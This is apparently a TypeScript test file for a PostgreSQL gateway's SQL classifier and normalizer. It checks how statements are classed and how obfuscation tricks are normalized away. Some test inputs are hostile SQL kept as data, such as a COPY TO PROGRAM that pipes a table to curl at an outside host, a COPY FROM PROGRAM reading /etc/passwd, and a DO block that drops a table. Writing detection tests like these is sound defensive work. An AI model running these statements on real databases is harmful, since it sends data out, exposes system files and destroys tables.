// Classification comes from the real PostgreSQL parser. One case per line: statement, classes.
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { classify, loadClassifier } from '../../gateway/postgres/sql-classifier.ts';
import { normalizeSql } from '../../gateway/postgres/sql-normalize.ts';
import { SQL_CLASSES } from '../../gateway/policy/sql-classes.ts';

before(() => loadClassifier());

const CASES: [string, string[][]][] = [
  ['SELECT 1', [['select']]],
  ['sElEcT * FrOm users', [['select']]],
  ['DeLeTe/* hidden */FROM   users', [['delete', 'delete-without-where']]],
  ['delete from users where id = 1', [['delete']]],
  ['UPDATE "Users" SET a = 1', [['update', 'update-without-where']]],
  ['update users set a = 1 where id = 2', [['update']]],
  ['insert into t values (1)', [['insert']]],
  ['insert into t select * from u', [['insert', 'select']]],
  ['SELECT 1; DELETE FROM users', [['select'], ['delete', 'delete-without-where']]],
  ['WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d', [['delete', 'delete-without-where', 'select']]],
  ['EXPLAIN ANALYZE DELETE FROM users', [['delete', 'delete-without-where', 'explain']]],
  ['EXPLAIN DELETE FROM users', [['explain']]],
  ['EXPLAIN (ANALYZE false) DELETE FROM users', [['explain']]],
  ['PREPARE p AS DELETE FROM users; EXECUTE p', [['delete', 'delete-without-where', 'prepare'], ['delete', 'delete-without-where', 'execute']]],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", [['do-block']]],
  ['CALL cleanup()', [['do-block']]],
  ["COPY users TO PROGRAM 'curl -d @- http://x'", [['copy', 'copy-to-program', 'select']]],
  ["COPY users FROM PROGRAM 'cat /etc/passwd'", [['copy', 'copy-from-program', 'insert']]],
  ['COPY users FROM STDIN', [['copy', 'insert']]],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM users RETURNING 1'", [['create', 'ddl', 'function-definition']]],
  ['CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM users', [['create', 'ddl', 'delete', 'delete-without-where', 'function-definition']]],
  ['CREATE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', [['create', 'ddl', 'function-definition']]],
  ['DROP TABLE users', [['ddl', 'drop']]],
  ['TRUNCATE users', [['truncate']]],
  ['ALTER TABLE users ADD COLUMN x int', [['alter', 'ddl']]],
  ['CREATE TABLE t2 AS SELECT * FROM users', [['create', 'ddl', 'select']]],
  ['SELECT * INTO t3 FROM users', [['create', 'ddl', 'select']]],
  ['GRANT SELECT ON users TO bob', [['grant']]],
  ['REVOKE SELECT ON users FROM bob', [['revoke']]],
  ['GRANT admin TO bob', [['grant', 'role']]],
  ['CREATE ROLE bob', [['role']]],
  ['ALTER ROLE bob SUPERUSER', [['role']]],
  ['BEGIN; SET search_path = x; COMMIT', [['transaction'], ['set'], ['transaction']]],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', [['delete', 'insert', 'merge', 'update']]],
  ['DECLARE c CURSOR FOR SELECT * FROM users', [['cursor', 'select']]],
  ['VACUUM users', [['maintenance', 'vacuum']]],
  ['LISTEN ch', [['listen']]],
  ['SHOW search_path', [['utility']]],
];

test('statements are classified by the PostgreSQL parser, hidden ones included', () => {
  for (const [sql, expected] of CASES) {
    const c = classify(sql);
    assert.ok(c.ok, `${sql}: ${c.ok ? '' : c.error}`);
    assert.deepEqual(c.statements.map((s) => s.classes), expected, sql);
    for (const s of c.statements) for (const cls of s.classes) assert.ok((SQL_CLASSES as readonly string[]).includes(cls), cls);
  }
});

test('relations are named with their schema, and CTE names are not relations', () => {
  const c = classify('WITH d AS (DELETE FROM audit.log RETURNING *) SELECT * FROM d JOIN public.users u ON true; DROP TABLE a, s.b');
  assert.ok(c.ok);
  assert.deepEqual(c.statements.map((s) => s.tables), [['audit.log', 'public.users'], ['a', 's.b']]);
});

test('what cannot be classified says why', () => {
  const bad = classify('SELEC 1');
  assert.ok(!bad.ok && /syntax error at or near "SELEC"/.test(bad.error));
  const unknown = classify('EXECUTE never_prepared');
  assert.ok(!unknown.ok && /not prepared through the gateway/.test(unknown.error));
  const known = classify('EXECUTE p', new Map([['p', { classes: ['drop', 'ddl'], tables: ['t'] }]]));
  assert.ok(known.ok && known.statements[0]!.classes.includes('drop'));
  assert.deepEqual(classify('  -- nothing\n;'), { ok: true, statements: [], prepared: [] });
});

test('normalization defeats case, whitespace and comment tricks, and keeps literals', () => {
  assert.equal(normalizeSql('DeLeTe/**/FROM\n\t public.Users -- bye'), 'delete from public.users');
  assert.equal(normalizeSql('SELECT pg_terminate_backend/* x /* nested */ y */(42)'), 'select pg_terminate_backend ( 42 )');
  assert.equal(normalizeSql(`select 'DROP  TABLE', "MiXed", E'it\\'s', $t$ a  b $t$, $1`), `select 'DROP  TABLE' , "MiXed" , e'it\\'s' , $t$ a  b $t$ , $1`);
  assert.equal(normalizeSql('SELECT a::int, b->>\'x\' FROM t WHERE x<>1--c\nAND y>=2'), "select a :: int , b ->> 'x' from t where x <> 1 and y >= 2");
});
